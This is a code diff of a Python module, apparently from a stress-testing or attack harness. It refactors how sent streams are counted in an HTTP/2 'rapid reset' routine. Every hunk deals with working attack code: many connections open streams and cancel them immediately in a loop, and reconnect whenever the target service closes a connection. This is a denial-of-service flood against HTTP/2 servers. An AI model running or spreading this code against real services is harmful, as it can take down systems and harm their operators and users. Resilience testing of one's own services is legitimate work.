@@ -43,25 +43,27 @@ def resets_of_http(folder: Path, scale: float) -> Attacked:
 
 def _reset(address: tuple[str, int], path: str, content: str, seconds: float) -> Effect:
     """Reset streams over two connections, and connect again when one is closed."""
-    end, sent, connects = time.monotonic() + seconds, 0, 0
+    end, connects = time.monotonic() + seconds, 0
     lines = [Resetting(address, path, content) for _ in range(CONNECTIONS)]
+    opened = list(lines)
     while time.monotonic() < end:
         for place, line in enumerate(lines):
             try:
-                sent += line.reset(STREAMS_A_WRITE)
+                line.reset(STREAMS_A_WRITE)
             except (OSError, h2.exceptions.ProtocolError):
                 line.close()
                 connects += 1
                 with suppress(OSError):
                     lines[place] = Resetting(address, path, content)
+                    opened.append(lines[place])
                 time.sleep(0.01)
     for line in lines:
         line.close()
-    return Effect(sent, f"{connects} connections closed by the service")
+    return Effect(sum(line.sent for line in opened), f"{connects} connections closed by the service")
 
 
 class Resetting:
-    """A connection that opens streams and resets them at once."""
+    """A connection that opens streams and resets them at once; ``sent`` counts them."""
 
     def __init__(self, address: tuple[str, int], path: str, content: str) -> None:
         """Connect."""
@@ -73,20 +75,21 @@ class Resetting:
             ("content-type", content),
             ("te", "trailers"),
         ]
+        self.sent = 0
         self._socket = socket.create_connection(address, timeout=2)
         self._connection = h2.connection.H2Connection()
         self._connection.initiate_connection()
         self._flush()
 
-    def reset(self, number: int) -> int:
-        """Open and reset so many streams; return the number. Raises `OSError` if the service has closed the line."""
+    def reset(self, number: int) -> None:
+        """Open and reset so many streams. Raises `OSError` if the service has closed the connection."""
         for _ in range(number):
             stream = self._connection.get_next_available_stream_id()
             self._connection.send_headers(stream, self._headers)
             self._connection.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
         self._flush()
+        self.sent += number
         self._receive()
-        return number
 
     def _flush(self) -> None:
         self._socket.sendall(self._connection.data_to_send())
